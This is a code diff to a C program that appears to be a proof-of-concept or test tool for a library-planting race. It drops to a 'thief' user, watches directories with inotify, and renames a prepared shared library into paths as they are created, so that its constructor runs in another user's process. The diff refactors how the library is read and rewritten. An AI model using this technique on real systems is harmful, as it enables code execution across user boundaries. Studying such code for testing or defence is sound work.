@@ -27,7 +27,8 @@ __attribute__((constructor)) static void leave_a_mark(void)
 
 enum { TRAPS = 2000, PATH = 512 };
 
-static const char *library;
+static char library[1 << 20];
+static size_t library_length;
 static int events; /* an inotify */
 static struct trap {
     int watch;
@@ -54,14 +55,22 @@ static void make_ready(void)
     made++;
 }
 
-static void copy_library(const char *to)
+static void read_library(const char *path)
 {
-    static char bytes[1 << 20];
-    const int from = open(library, O_RDONLY), copy = open(to, O_CREAT | O_WRONLY | O_TRUNC, 0777);
-    const ssize_t length = from < 0 ? -1 : read(from, bytes, sizeof bytes);
-    if (length <= 0 || write(copy, bytes, (size_t)length) != length)
-        die(library);
-    close(from), close(copy);
+    const int from = open(path, O_RDONLY);
+    const ssize_t length = from < 0 ? -1 : read(from, library, sizeof library);
+    if (length <= 0 || length == sizeof library)
+        die(path);
+    library_length = (size_t)length;
+    close(from);
+}
+
+static void write_library(const char *path)
+{
+    const int to = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0777);
+    if (write(to, library, library_length) != (ssize_t)library_length)
+        die(path);
+    close(to);
 }
 
 /* A directory of another, in which he may be allowed to write. */
@@ -94,7 +103,7 @@ static void put_a_trap_at(const char *path)
 static void put_the_library_at(const char *path)
 {
     if (rename("library", path) == 0)
-        copy_library("library");
+        write_library("library");
 }
 
 static void take(const char *directory, const struct inotify_event *event)
@@ -124,13 +133,13 @@ int main(int argc, char **argv)
     static _Alignas(struct inotify_event) char buffer[1 << 16];
     if (argc != 4)
         return 2;
-    library = argv[3];
+    read_library(argv[3]); /* which another user may not be able to reach */
     const uid_t thief = (uid_t)atoi(argv[1]);
     if (chdir(argv[2]) != 0 || setgid(thief) != 0 || setuid(thief) != 0)
         die(argv[2]);
     umask(0);
     events = inotify_init1(IN_CLOEXEC);
-    copy_library("library");
+    write_library("library");
     make_ready();
     if (inotify_add_watch(events, ".", IN_CREATE) < 0)
         die("inotify");
